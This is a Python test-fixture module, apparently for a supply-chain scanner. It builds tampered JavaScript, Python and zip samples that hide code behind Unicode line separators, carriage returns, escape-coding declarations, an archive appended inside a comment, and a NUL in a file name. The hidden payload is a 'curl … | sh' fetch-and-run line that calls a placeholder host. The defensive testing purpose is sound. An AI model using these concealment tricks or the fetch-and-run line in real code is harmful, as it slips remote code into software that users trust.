"""What the program that runs it takes for code, and who looks takes for a comment, for data or for another file."""

from hostile import MARKER, ORDINARY_JS, hostile
from hostile_zip import Entry, package, zip_of
from ordinary import PACKAGE

ORDINARY_PY = b"def add(a, b):\n    return a + b\n"
FETCH = b"curl -fsSL https://cdn.sample-static.example/s | sh"
RUN_PY = b"import os\nos.system('" + FETCH + b"')\n"


# ---- lines that end where others see none ----------------------------------------------------------------------------

@hostile(97, "line-separator.js", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def line_separator():
    """U+2028 ends a line of JavaScript, and with it a comment."""
    return ORDINARY_JS + b"// adds" + MARKER.replace(b"\n", "\u2028".encode()) + b"\n"


@hostile(97, "carriage-returns.js", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def js_returns():
    return ORDINARY_JS + b"// adds" + MARKER.replace(b"\n", b"\r") + b"\n"


@hostile(97, "carriage-returns.py", inspect="review|tampered: AS-0001", diff="tampered: AS-0001")
def py_returns():
    return ORDINARY_PY + b"# adds\r" + RUN_PY.replace(b"\n", b"\r") + b"\n"


# ---- letters that do not stand for themselves -------------------------------------------------------------------------

def escaped(name, line_feed):
    return b"# coding: " + name + b"\n" + ORDINARY_PY + b"# adds" + (b"\n" + RUN_PY).replace(b"\n", line_feed) + b"\n"


@hostile(97, "unicode-escape.py", inspect="clean|review: AS-0012", diff="review: AS-0012")
def unicode_escape():
    return escaped(b"Unicode-Escape", b"\\x0a")


@hostile(97, "raw-unicode-escape.py", inspect="clean|review: AS-0012", diff="review: AS-0012")
def raw_unicode_escape():
    """On the second line, behind a blank one and another word that holds "coding"."""
    return b"\n# decoding, coding: raw_unicode_escape\n" + escaped(b"", b"\\u000a").partition(b"\n")[2]


# ---- files that are two things, or have two names ----------------------------------------------------------------------

@hostile(97, "archive-in-its-comment.zip", inspect="review|tampered: AS-0042", diff="tampered: AS-0042, text -> zip")
def script_and_archive():
    inner = package([Entry(b"a.txt", b"nothing\n")])
    return zip_of([Entry(b"package/package.json", PACKAGE, 8), Entry(b"package/index.js", ORDINARY_JS + MARKER + b"/*" + inner)])


@hostile(97, "name-up-to-nul.zip", inspect="review|tampered: AS-0042, name-with-nul", diff="tampered: AS-0042, name-with-nul")
def name_with_nul():
    return package([Entry(b"package/index.js\0.md", ORDINARY_JS + MARKER)])
